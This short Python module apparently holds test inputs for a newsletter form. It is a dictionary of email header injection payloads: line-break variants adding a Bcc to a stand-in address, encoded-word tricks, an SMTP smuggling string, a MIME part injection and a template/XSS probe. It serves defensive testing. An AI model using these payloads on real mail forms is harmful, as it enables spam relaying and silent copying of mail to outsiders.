"""What attackers type into the fields of a newsletter, to make more of a mail than one mail."""

SMUGGLED = {
    "a line": "x\r\nBcc: evil@stranger.example",
    "a bare CR": "x\rBcc: evil@stranger.example",
    "a bare LF": "x\nBcc: evil@stranger.example",
    "a Unicode line": "x\u2028Bcc: evil@stranger.example",
    "a C1 line": "x\x85Bcc: evil@stranger.example",
    "an encoded word": "x =?utf-8?q?a=0D=0ABcc:_evil@stranger.example?= y",
    "a base64 word": "=?utf-8?b?DQpCY2M6IGV2aWxAc3RyYW5nZXIuZXhhbXBsZQ==?=",
    "a second mail": "x\r\n.\r\nMAIL FROM:<evil@stranger.example>\r\nRCPT TO:<evil@x.org>\r\nDATA",
    "a part": "x\r\n\r\n--=_0\r\nContent-Type: text/html\r\n\r\nBcc: evil@stranger.example",
    "an address": 'x" <evil@stranger.example>, "y',
    "a template": "{{7*7}} {% raw %} <script>alert(1)</script>",
}
